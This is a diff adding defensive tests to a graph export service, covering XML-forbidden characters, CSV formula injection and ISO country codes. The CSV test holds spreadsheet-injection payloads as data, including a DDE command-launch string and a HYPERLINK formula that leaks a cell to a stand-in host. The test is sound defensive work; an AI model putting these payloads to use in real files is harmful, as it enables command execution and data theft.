@@ -9,6 +9,7 @@ import addFormats from 'ajv-formats';
 import { MultiDirectedGraph } from 'graphology';
 import { parse as parseGexf } from 'graphology-gexf';
 import { parse as parseGraphml } from 'graphology-graphml';
+import countries from 'i18n-iso-countries/index.js';
 import { afterAll, beforeAll, describe, expect, it } from 'vitest';
 import { projectPath } from '../../src/project-root.js';
 import { type ExportFormat, exportGraph, readExportNetwork } from '../../src/services/export.service.js';
@@ -16,6 +17,8 @@ import { useSeededGraph } from '../helpers/graph-fixtures.js';
 import { resetGraph } from '../helpers/test-db.js';
 
 const graph = useSeededGraph();
+
+const ISO_ALPHA_2 = new Set(Object.keys(countries.getAlpha2Codes()));
 
 /** The graph's own counts of what the network formats hold: entities but sources, relationships between them. */
 async function graphCounts() {
@@ -133,6 +136,88 @@ describe('exports other tools read', () => {
       alias: expect.arrayContaining(['Subhan Bakirov']),
     });
     expect(entities.filter((e) => e.schema === 'Occupancy')).toHaveLength(6);
+  });
+
+  describe('whatever the graph holds', () => {
+    /** People written straight into the graph, past ingest's validation, each supported by a source of its own. */
+    async function withPeople(people: { id: string; name: string; country?: string }[], work: () => Promise<void>) {
+      await graph.t.db.write(
+        `CREATE (s:Entity:Source {id: 'source-hostile', title: 'Hostile names', publisher: 'Test', published: '2024'})
+         WITH s UNWIND $people AS person
+         CREATE (p:Entity:Person {id: person.id, name: person.name})-[:SUPPORTED_BY {paragraph: 1, note: 'x'}]->(s)
+         FOREACH (code IN CASE WHEN person.country IS NULL THEN [] ELSE [person.country] END |
+           MERGE (c:Entity:Country {id: code}) ON CREATE SET c.name = 'Country ' + code, c.hostile = true
+           CREATE (p)-[:CITIZEN_OF]->(c))`,
+        { people },
+      );
+      try {
+        await work();
+      } finally {
+        await graph.t.db.write(`MATCH (n:Entity) WHERE n.id = 'source-hostile' OR n.id IN $ids OR n.hostile DETACH DELETE n`, {
+          ids: people.map((p) => p.id),
+        });
+      }
+    }
+
+    it('GraphML and GEXF stay well-formed with characters XML 1.0 forbids in a name', async () => {
+      await withPeople([{ id: 'person-nonchar', name: 'Nonchar \uffff\ufffe end\u0001 \u001b.' }], async () => {
+        const counts = await graphCounts();
+        for (const [format, reader, parse] of [
+          ['graphml', 'read_graphml', parseGraphml],
+          ['gexf', 'read_gexf', parseGexf],
+        ] as const) {
+          const text = await body(format);
+          const parsed = parse(MultiDirectedGraph, text);
+          expect(parsed.getNodeAttributes('person-nonchar').label, format).toBe('Nonchar  end .');
+          expect(networkxCounts(reader, writeTemp(`n.${format}`, text)), format).toEqual({ nodes: counts.nodes, edges: counts.edges });
+        }
+      });
+    });
+
+    it('CSV: a cell a spreadsheet would take for a formula starts with a quote, and reads back so', async () => {
+      const names = [
+        "=cmd|' /C calc'!A0",
+        '+SUM(1+1)*cmd',
+        '@SUM(1)',
+        '-2+3',
+        '\tTabbed',
+        '\rReturned',
+        '=HYPERLINK("http://x.example/?a="&A1,"c")',
+      ];
+      const people = names.map((name, i) => ({ id: `person-formula-${i}`, name }));
+      await withPeople(people, async () => {
+        const csv = (await exportGraph(graph.t.db, 'csv')).files.find((f) => f.name === 'nodes-Person.csv')!.body;
+        const rows = JSON.parse(
+          execFileSync('python3', [
+            '-c',
+            'import csv, json, sys; print(json.dumps(list(csv.DictReader(open(sys.argv[1], newline="")))))',
+            writeTemp('p.csv', csv),
+          ]).toString(),
+        ) as Record<string, string>[];
+        const byId = new Map(rows.map((row) => [row.id, row]));
+        for (const person of people) expect(byId.get(person.id)?.name, person.name).toBe(`'${person.name}`);
+        expect(byId.get('person-subhan-bekirov')?.name).toBe('Subhan Bekirov');
+      });
+    });
+
+    it('FollowTheMoney: only ISO 3166-1 country codes, whatever ids the countries have', async () => {
+      const people = [
+        { id: 'person-from-x000', name: 'Nowhere One', country: 'x000' },
+        { id: 'person-from-qq', name: 'Nowhere Two', country: 'QQ' },
+      ];
+      await withPeople(people, async () => {
+        const entities = (await body('ftm'))
+          .trim()
+          .split('\n')
+          .map((line) => JSON.parse(line) as { id: string; properties: Record<string, string[]> });
+        const byId = new Map(entities.map((e) => [e.id, e]));
+        for (const person of people) expect(byId.get(person.id)?.properties.nationality, person.id).toBeUndefined();
+        expect(byId.get('person-subhan-bekirov')?.properties.nationality).toEqual(['az']);
+        const codes = entities.flatMap((e) => [...(e.properties.nationality ?? []), ...(e.properties.country ?? [])]);
+        expect(codes.length).toBeGreaterThan(0);
+        expect(codes.filter((code) => !ISO_ALPHA_2.has(code.toUpperCase()))).toEqual([]);
+      });
+    });
   });
 
   describe('CSV', () => {
